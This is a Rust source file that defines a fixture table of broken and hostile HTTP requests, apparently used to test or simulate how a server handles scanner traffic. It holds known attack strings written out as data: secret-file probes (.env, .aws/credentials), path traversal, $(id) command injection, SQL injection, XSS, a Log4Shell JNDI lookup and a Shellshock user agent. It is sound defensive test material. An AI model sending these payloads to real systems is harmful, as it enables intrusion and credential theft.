//! Broken and hostile requests, as every public server meets them.

use super::request::Method;

/// One request that no honest client sends.
#[derive(Debug)]
pub struct Hostile {
    /// The method; with [`Method::None`] the target is the whole of what was received.
    pub method: Method,
    /// The target as received.
    pub target: &'static [u8],
    /// The status that the server answers.
    pub status: u16,
    /// The user agent as received; `-` is none.
    pub agent: &'static [u8],
}

use Method::{Connect, Get, None, Options, Post, Propfind};

/// Bytes of a target that was made to overflow something.
pub const LONG_TARGET_BYTES: usize = 2_000;

const LONG_TARGET: [u8; LONG_TARGET_BYTES] = {
    let mut target = [b'A'; LONG_TARGET_BYTES];
    target[0] = b'/';
    target
};

const FIREFOX: &[u8] = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0";

/// All such requests, equally likely.
#[rustfmt::skip]
pub const HOSTILE: &[Hostile] = &[
    // Connections that carry no request, or another protocol.
    Hostile { method: None, target: b"-", status: 400, agent: b"-" },
    Hostile { method: None, target: b"-", status: 408, agent: b"-" },
    Hostile { method: None, target: b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x8d\x5e\x22\xb1\x5c\x07\xf0", status: 400, agent: b"-" },
    Hostile { method: None, target: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", status: 400, agent: b"-" },
    Hostile { method: None, target: b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", status: 400, agent: b"-" },
    Hostile { method: None, target: b"SSH-2.0-Go", status: 400, agent: b"-" },
    Hostile { method: None, target: b"PRI * HTTP/2.0", status: 400, agent: b"-" },
    Hostile { method: None, target: b"GET /a page with spaces HTTP/1.1", status: 400, agent: b"-" },
    Hostile { method: None, target: b"GET", status: 400, agent: b"-" },
    // Searches for secrets and known weak spots.
    Hostile { method: Get, target: b"/.env", status: 404, agent: FIREFOX },
    Hostile { method: Get, target: b"/.git/config", status: 403, agent: b"Go-http-client/1.1" },
    Hostile { method: Get, target: b"/.aws/credentials", status: 404, agent: b"python-requests/2.28.1" },
    Hostile { method: Get, target: b"/wp-login.php", status: 404, agent: FIREFOX },
    Hostile { method: Post, target: b"/xmlrpc.php", status: 404, agent: b"-" },
    Hostile { method: Get, target: b"/phpmyadmin/index.php?lang=en", status: 404, agent: b"Mozilla/5.0 zgrab/0.x" },
    Hostile { method: Post, target: b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", status: 404, agent: b"libredtail-http" },
    Hostile { method: Post, target: b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", status: 400, agent: b"libredtail-http" },
    Hostile { method: Get, target: b"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", status: 404, agent: b"-" },
    Hostile { method: Get, target: b"/static/../../../../etc/passwd", status: 400, agent: b"curl/7.88.1" },
    Hostile { method: Get, target: b"/search?q=%27%20UNION%20SELECT%20NULL,NULL--%20-", status: 200, agent: b"sqlmap/1.8#stable (https://sqlmap.org)" },
    Hostile { method: Get, target: b"/search?q=<script>alert(1)</script>", status: 200, agent: FIREFOX },
    Hostile { method: Get, target: b"/search?q=\"><img src=x onerror=alert(1)>", status: 400, agent: b"Mozilla/5.0 \"><script>alert(1)</script>" },
    Hostile { method: Get, target: b"/", status: 200, agent: b"${jndi:ldap://198.51.100.23:1389/a}" },
    Hostile { method: Get, target: b"/", status: 200, agent: b"() { :; }; echo \"vulnerable\"; /bin/cat /etc/hosts" },
    Hostile { method: Get, target: b"/", status: 200, agent: b"Mozilla/5.0 (\xd0\x9b\xd0\xb8\xd0\xbd\xd1\x83\xd0\xba\xd1\x81) \x1b[2J\xff\xfe" },
    Hostile { method: Get, target: b"/caf\xc3\xa9", status: 404, agent: FIREFOX },
    Hostile { method: Get, target: &LONG_TARGET, status: 414, agent: b"-" },
    // Searches for open proxies, and odd methods.
    Hostile { method: Get, target: b"http://proxycheck.example.net/ip?id=77", status: 404, agent: FIREFOX },
    Hostile { method: Connect, target: b"smtp.example.net:25", status: 400, agent: b"-" },
    Hostile { method: Options, target: b"*", status: 200, agent: b"-" },
    Hostile { method: Propfind, target: b"/", status: 405, agent: b"Microsoft-WebDAV-MiniRedir/10.0.19045" },
];
